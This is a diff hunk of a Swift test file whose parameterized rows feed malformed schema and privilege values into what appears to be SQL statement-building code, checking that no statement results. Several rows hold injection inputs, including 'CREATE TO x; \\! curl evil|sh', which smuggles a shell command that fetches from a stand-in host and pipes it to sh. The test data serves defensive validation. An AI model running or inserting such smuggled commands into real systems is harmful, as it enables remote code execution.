@@ -62,7 +62,7 @@ import Testing
             ["\"a\" \\! \"b\"", "CREATE", nil, nil, nil, nil, nil],
             ["public", "CREATE TO x; \\! curl evil|sh", nil, nil, nil, nil, nil],
             ["public", "CREATE, ", nil, nil, nil, nil, nil],
-            ["public", "CREATE", "x \\! curl", "t", nil, nil, nil], ["public", "CREATE"],
+            ["public", "CREATE", "x \\! curl", "f", nil, "SELECT", nil], ["public", "CREATE"],
             [nil, "CREATE", nil, nil, nil, nil, nil],
         ] as [[String?]])
     func whatIsNoNameOrNoRightGetsIntoNoStatement(row: [String?]) {
